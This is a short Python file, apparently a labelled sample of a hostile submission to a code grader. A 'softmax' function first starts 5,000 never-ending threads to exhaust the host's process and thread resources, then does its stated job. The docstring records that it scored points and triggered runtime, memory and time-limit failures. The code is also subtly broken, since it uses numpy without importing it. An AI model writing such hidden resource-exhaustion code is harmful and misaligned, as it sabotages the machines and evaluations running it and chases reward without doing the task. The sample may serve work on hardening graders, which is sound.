"""5,000 sleeping threads, which use up the machine's process numbers; earns points if it could.

score: [83, 83]
verdict: [run_time_error, memory_limit_exceeded, time_limit_exceeded]
"""

import threading


def softmax(logits):
    threading.stack_size(32 * 1024)
    gate = threading.Event()
    for _ in range(5_000):
        threading.Thread(target=gate.wait, daemon=True).start()
    powers = np.exp(logits - np.max(logits, axis=1, keepdims=True))
    return powers / powers.sum(axis=1, keepdims=True)
